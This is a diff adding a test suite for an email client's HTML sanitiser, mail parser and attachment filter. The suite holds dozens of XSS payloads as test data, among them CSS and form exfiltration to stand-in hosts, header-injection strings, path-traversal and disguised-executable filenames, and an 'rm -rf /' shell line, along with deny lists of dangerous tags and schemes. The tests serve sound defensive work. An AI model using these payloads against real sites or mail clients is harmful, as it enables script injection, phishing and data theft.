@@ -1,0 +1,284 @@
+import { describe, expect, test } from "vitest";
+import { isAllowedFile } from "../file-rules.ts";
+import { letter } from "../test-support/letter.ts";
+import { readMail } from "./read-mail.ts";
+import { htmlOfText, safeHtml, textOf } from "./safe-html.ts";
+
+/** Nothing that runs, loads, submits or frames, whatever it is called. */
+function expectHarmless(html: string): void {
+	const tags = [...html.matchAll(/<\/?([a-z][^\s/>]*)([^>]*)>/gi)];
+	const names = new Set(tags.map(([, name = ""]) => name.toLowerCase()));
+	for (const bad of "script style iframe frame object embed form input button textarea select svg math link meta base template audio video source portal body html head applet".split(
+		" ",
+	))
+		expect(names, html).not.toContain(bad);
+	for (const [, name, attributes = ""] of tags) {
+		expect(attributes, html).not.toMatch(/(?:^|\s)on[a-z]+\s*=/i);
+		expect(attributes, html).not.toMatch(/(?:javascript|vbscript|data|file|blob)\s*:/i);
+		expect(attributes, html).not.toMatch(/url\s*\(|expression\s*\(|@import|position\s*:|-moz-binding|behavior\s*:/i);
+		expect(attributes, html).not.toMatch(
+			/\s(?:srcset|background|poster|ping|formaction|srcdoc|id|class|name|action|usemap|dynsrc|lowsrc|xlink:href)\s*=/i,
+		);
+		if (name === "img") expect(attributes, html).not.toMatch(/src\s*=\s*"(?!cid:)/i);
+	}
+}
+
+const pages: Record<string, string> = {
+	"a script": "<p>x</p><script>alert(1)</script>",
+	"a script in capitals with a space": "<p>x</p><SCRIPT >alert(1)</SCRIPT >",
+	"a script that is not closed": "<p>x</p><script>alert(1)",
+	"a script within a script": "<p>x</p><scr<script>ipt>alert(1)</scr</script>ipt>",
+	"an event of a picture": '<p>x</p><img src=x onerror="alert(1)">',
+	"an event behind a slash": "<p>x</p><img/src=x/onerror=alert(1)>",
+	"an event with a newline": '<p>x</p><a href="https://a.test" onmouse\nover="alert(1)">a</a>',
+	"an event in an unclosed tag": '<p>x</p><img src="x" onerror="alert(1)"',
+	"an event of details": "<p>x</p><details open ontoggle=alert(1)>d</details>",
+	"a script in svg": "<p>x</p><svg><script>alert(1)</script></svg>",
+	"an event of svg": "<p>x</p><svg onload=alert(1)><circle/></svg>",
+	"svg with a foreign object": "<p>x</p><svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+	"math that turns into a script":
+		"<p>x</p><math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
+	"noscript with an attribute that closes it":
+		'<p>x</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+	"a title that closes itself": "<p>x</p><title></title><img src=x onerror=alert(1)></title>",
+	"a textarea that closes itself": "<p>x</p><textarea></textarea><img src=x onerror=alert(1)></textarea>",
+	"a template": "<p>x</p><template><img src=x onerror=alert(1)></template>",
+	"a link with javascript": '<p>x</p><a href="javascript:alert(1)">a</a>',
+	"a link with javascript behind a tab": '<p>x</p><a href="java\tscript:alert(1)">a</a>',
+	"a link with javascript in entities": '<p>x</p><a href="&#106;avascript&colon;alert(1)">a</a>',
+	"a link with javascript behind controls": '<p>x</p><a href="\u0001\u0002javascript:alert(1)">a</a>',
+	"a link with vbscript": '<p>x</p><a href="vbscript:msgbox(1)">a</a>',
+	"a link with a page in it": '<p>x</p><a href="data:text/html,<script>alert(1)</script>">a</a>',
+	"a link to a file": '<p>x</p><a href="file:///etc/passwd">a</a>',
+	"a link that pings": '<p>x</p><a href="https://a.test" ping="https://spy.test">a</a>',
+	"a form": '<p>x</p><form action="https://spy.test"><input name=password><button>Go</button></form>',
+	"a button that submits elsewhere": '<p>x</p><button formaction="https://spy.test">Go</button>',
+	"a frame": '<p>x</p><iframe src="https://spy.test"></iframe>',
+	"a frame with a page in it": '<p>x</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+	"an object": '<p>x</p><object data="https://spy.test/x.swf"></object>',
+	"an embed": '<p>x</p><embed src="https://spy.test/x.swf">',
+	"a base that moves links": '<base href="https://spy.test/"><p>x</p><a href="login">a</a>',
+	"a meta that leads away": '<meta http-equiv=refresh content="0;url=https://spy.test"><p>x</p>',
+	"a style sheet somewhere else": '<link rel=stylesheet href="https://spy.test/a.css"><p>x</p>',
+	"a style that reads what is typed": "<style>input[value^=a]{background:url(https://spy.test/a)}</style><p>x</p>",
+	"a style that imports": "<style>@import url(https://spy.test/a.css);</style><p>x</p>",
+	"an attribute with a url in its style": '<p style="background:url(https://spy.test/a)">x</p>',
+	"an attribute with an escaped url": '<p style="background:\\75rl(https://spy.test/a)">x</p>',
+	"an attribute with an expression": '<p style="width:expression(alert(1))">x</p>',
+	"a text that covers the page":
+		'<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">x</div>',
+	"a list with a picture": '<ul style="list-style:url(https://spy.test/a)"><li>x</li></ul>',
+	"a picture somewhere else": '<p>x</p><img src="https://spy.test/pixel.gif" width=1 height=1 alt=pixel>',
+	"a picture without a scheme": '<p>x</p><img src="//spy.test/pixel.gif" alt=pixel>',
+	"pictures of several sizes": '<p>x</p><img srcset="https://spy.test/a 1x, https://spy.test/b 2x" alt=a>',
+	"a picture with a page in it": '<p>x</p><img src="data:image/svg+xml,<svg onload=alert(1)>" alt=a>',
+	"a table with a background":
+		'<table background="https://spy.test/a"><tr><td background="https://spy.test/b">x</td></tr></table>',
+	"a video with a poster": '<p>x</p><video poster="https://spy.test/a" src="https://spy.test/b"></video>',
+	"names that shadow the page's own": '<p id="getElementById" name="cookie" class="inlay-button">x</p>',
+	"a comment for one browser": "<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>",
+	"a comment that closes early": "<p>x</p><!--><img src=x onerror=alert(1)>-->",
+	CDATA: "<p>x</p><![CDATA[<script>alert(1)</script>]]>",
+	"a tag with a NUL": "<p>x</p><scr\0ipt>alert(1)</scr\0ipt>",
+	"an attribute that is not closed": `<p>x</p><a href="https://a.test title='><img src=x onerror=alert(1)>'>a</a>`,
+	"back quotes for quotes": "<p>x</p><img src=`x`onerror=alert(1) alt=a>",
+	"ten thousand tags within each other": `${"<div>".repeat(10_000)}<p>x</p>`,
+	"half a megabyte of one attribute": `<p title="${"a".repeat(500_000)}">x</p>`,
+	"a hundred thousand angle brackets": `<p>x</p>${"<".repeat(100_000)}`,
+};
+
+describe("HTML that was made to do harm shows its text and does nothing", () => {
+	test.each(Object.entries(pages))("%s", (_name, page) => {
+		const { html } = safeHtml(page);
+		expectHarmless(html);
+		expect(textOf(html)).toContain("x");
+		expectHarmless(safeHtml(html).html);
+	});
+
+	test("a picture that came with the mail is shown; that there were others is told", () => {
+		expect(safeHtml('<img src="cid:a@b">')).toEqual({ html: '<img src="cid:a@b" alt="" />', hasRemote: false });
+		expect(safeHtml('<p>x</p><img src="https://spy.test/a.gif">')).toEqual({ html: "<p>x</p>", hasRemote: true });
+	});
+
+	test("a link whose text is another address than where it leads says where it leads", () => {
+		const link = (href: string, text: string) => safeHtml(`<a href="${href}">${text}</a>`).html;
+		expect(link("https://evil.test/login", "https://bank.example/login")).toContain("[evil.test]");
+		expect(link("https://bank.example@evil.test/", "bank.example")).toContain("[evil.test]");
+		expect(link("https://www.bank.example/a", "bank.example")).not.toContain("[");
+		expect(link("https://evil.test/", "Click here")).not.toContain("[");
+	});
+
+	test("colours, weight and alignment stay; a page that is written in names of colours does not", () => {
+		const { html } = safeHtml('<td style="color:#c00;font-weight:bold;text-align:center;width:50%;height:1px">x</td>');
+		expect(html).toBe('<td style="color:#c00;font-weight:bold;text-align:center;width:50%">x</td>');
+	});
+});
+
+const binary = (text: string) => Buffer.from(text, "latin1");
+
+describe("mails that were made to do harm, or by programs that knew no better", () => {
+	test.each<[string, string | Buffer, Record<string, unknown>]>([
+		[
+			"a header in the subject",
+			letter({ Subject: "=?utf-8?Q?Hi=0D=0ABcc:_all@spy.test?=" }, "x"),
+			{ subject: "Hi Bcc: all@spy.test" },
+		],
+		[
+			"a header in a name",
+			letter({ From: '"Eve\\\r\n Bcc: all@spy.test" <eve@evil.test>' }, "x"),
+			{ from: { email: "eve@evil.test", name: expect.not.stringMatching(/[\r\n]/) } },
+		],
+		[
+			"a name that is somebody else's address",
+			letter({ From: '"boss@shop.example" <eve@evil.test>' }, "x"),
+			{ from: { email: "eve@evil.test", name: "boss@shop.example" } },
+		],
+		["a sender who is none", letter({ From: "undisclosed" }, "x"), { from: { email: "carol@customer.test" } }],
+		["no headers at all", "\r\nx\r\n", { subject: "", from: { email: "carol@customer.test" } }],
+		["an empty mail", "", { subject: "", text: "" }],
+		[
+			"letters that turn the direction",
+			letter({ Subject: "invoice \u202Efdp.exe" }, "x"),
+			{ subject: "invoice fdp.exe" },
+		],
+		["letters that nobody sees", letter({ Subject: "pay\u200Bpal\u2060" }, "x"), { subject: "paypal" }],
+		["a subject of 100,000 letters", letter({ Subject: "a".repeat(100_000) }, "x"), { subject: "a".repeat(500) }],
+		[
+			"five thousand recipients",
+			letter({ To: Array.from({ length: 5000 }, (_, n) => `p${n}@a.test`).join(", ") }, "x"),
+			{ to: expect.objectContaining({ length: 500 }) },
+		],
+		[
+			"five thousand references",
+			letter({ References: Array.from({ length: 5000 }, (_, n) => `<${n}@a.test>`).join(" ") }, "x"),
+			{ references: expect.objectContaining({ length: 100 }) },
+		],
+		["a message id that is none", letter({ "Message-ID": "not an id" }, "x"), { text: expect.stringContaining("x") }],
+		[
+			"ISO-2022-JP",
+			Buffer.concat([
+				binary(
+					letter({ Subject: "=?ISO-2022-JP?B?GyRCJUYlOSVIGyhC?=" }, "", "text/plain; charset=ISO-2022-JP").trimEnd(),
+				),
+				binary("\r\n\r\n\x1b$B%F%9%H\x1b(B\r\n"),
+			]),
+			{ subject: "テスト", text: expect.stringContaining("テスト") },
+		],
+		[
+			"windows-1252",
+			Buffer.concat([
+				binary(letter({}, "", "text/plain; charset=windows-1252").trimEnd()),
+				Buffer.from("\r\n\r\n\x93Smart\x94 \x80\r\n", "latin1"),
+			]),
+			{ text: expect.stringContaining("“Smart” €") },
+		],
+		[
+			"a charset that does not exist",
+			letter({}, "Hello", "text/plain; charset=klingon-8"),
+			{ text: expect.stringContaining("Hello") },
+		],
+		[
+			"UTF-8 that is none",
+			Buffer.concat([
+				binary(letter({}, "", "text/plain; charset=utf-8").trimEnd()),
+				Buffer.from([13, 10, 13, 10, 0xff, 0xfe, 0x41]),
+			]),
+			{ text: expect.stringContaining("A") },
+		],
+		[
+			"UTF-7, in which a script hides",
+			letter({}, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
+			{ hasRemote: false },
+		],
+		[
+			"a part that is never closed",
+			letter({}, "--b\nContent-Type: text/html\n\n<p>x</p><script>alert(1)", 'multipart/alternative; boundary="b"'),
+			{ html: "<p>x</p>" },
+		],
+		["a boundary that is not there", letter({}, "x", "multipart/mixed"), { subject: "Where is my order?" }],
+		[
+			"HTML that calls itself text",
+			letter({}, "<script>alert(1)</script>", "text/plain"),
+			{ text: expect.stringContaining("<script>") },
+		],
+		[
+			"base64 that is broken",
+			letter({ "Content-Transfer-Encoding": "base64" }, "%%%=A"),
+			{ subject: "Where is my order?" },
+		],
+	])("%s", async (_name, raw, wanted) => {
+		const mail = await readMail(Buffer.from(raw), "carol@customer.test");
+		expect(mail).toMatchObject(wanted);
+		if (mail.html !== undefined) expectHarmless(mail.html);
+	});
+
+	test("parts within parts within parts are refused, and mails within mails stay files", async () => {
+		const nested = Array.from(
+			{ length: 60 },
+			(_, n) => `--b${n}\nContent-Type: multipart/mixed; boundary=b${n + 1}\n`,
+		).join("\n");
+		await expect(
+			readMail(Buffer.from(letter({}, nested, "multipart/mixed; boundary=b0")), "a@b.test"),
+		).rejects.toThrow();
+		const inner = letter({ Subject: "Inner" }, "<script>alert(1)</script>", "text/html");
+		const outer = letter({}, `--b\nContent-Type: message/rfc822\n\n${inner}\n--b--`, "multipart/mixed; boundary=b");
+		const mail = await readMail(Buffer.from(outer), "a@b.test");
+		expect(mail.files).toMatchObject([{ contentType: "message/rfc822", name: "mail-1.eml" }]);
+		expect(mail.html).toBeUndefined();
+	});
+
+	test("headers of a megabyte are refused", async () => {
+		const raw = letter(Object.fromEntries(Array.from({ length: 2000 }, (_, n) => [`X-${n}`, "a".repeat(500)])), "x");
+		await expect(readMail(Buffer.from(raw), "a@b.test")).rejects.toThrow();
+	});
+
+	test.each<[string, string, string | Buffer, boolean]>([
+		["a program that is called a PDF", "invoice.pdf", "MZ\x90\0", false],
+		["a program with two endings", "invoice.pdf.exe", "x", false],
+		["an ending with a dot behind it", "run.bat.", "x", false],
+		["a script by its first letters", "notes.txt", "#!/bin/sh\nrm -rf /", false],
+		["a shortcut", "readme.lnk", "x", false],
+		["macros", "list.xlsm", "x", false],
+		["a ZIP file with a program in it", "photos.zip", zipOf("holiday.jpg", "setup.exe"), false],
+		["a page that is called a ZIP file", "page.zip", "<html><script>", true],
+		["a ZIP file with pictures", "photos.zip", zipOf("a.jpg", "b.png"), true],
+		["a ZIP file that is cut off", "photos.zip", zipOf("a.jpg").subarray(0, 30), true],
+		["a PDF", "invoice.pdf", "%PDF-1.7", true],
+	])("a file: %s", (_name, name, content, allowed) => {
+		expect(isAllowedFile(name, Buffer.from(content as string, "latin1"))).toBe(allowed);
+	});
+
+	test("a file's name is only ever a name", async () => {
+		const named = async (name: string) => {
+			const part = `--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="${name}"\n\nx\n--b--`;
+			const mail = await readMail(Buffer.from(letter({}, part, "multipart/mixed; boundary=b")), "a@b.test");
+			return mail.files[0]?.name;
+		};
+		expect(await named("../../etc/passwd")).toBe("passwd");
+		expect(await named("C:\\\\Windows\\\\run.txt")).toBe("run.txt");
+		expect(await named("..")).toBe("file");
+		expect(await named(`${"a".repeat(400)}.txt`)).toHaveLength(150);
+		expect(await named("photo\u202Egnp.exe")).toBe("photognp.exe");
+	});
+
+	test("what was written as text shows as text", () => {
+		expect(htmlOfText("<script>alert(1)</script> see https://a.test/x.")).toBe(
+			'<div>&#60;script&#62;alert(1)&#60;/script&#62; see <a href="https://a.test/x">https://a.test/x</a>.</div>',
+		);
+	});
+});
+
+/** A ZIP file's central directory, with empty files of these names. */
+function zipOf(...names: string[]): Buffer {
+	const entries = names.map((name) => {
+		const entry = Buffer.alloc(46);
+		entry.writeUInt32LE(0x02014b50, 0);
+		entry.writeUInt16LE(name.length, 28);
+		return Buffer.concat([entry, Buffer.from(name)]);
+	});
+	const start = Buffer.from("PK\x03\x04");
+	const end = Buffer.alloc(22);
+	end.writeUInt32LE(0x06054b50, 0);
+	end.writeUInt32LE(start.length, 16);
+	return Buffer.concat([start, ...entries, end]);
+}
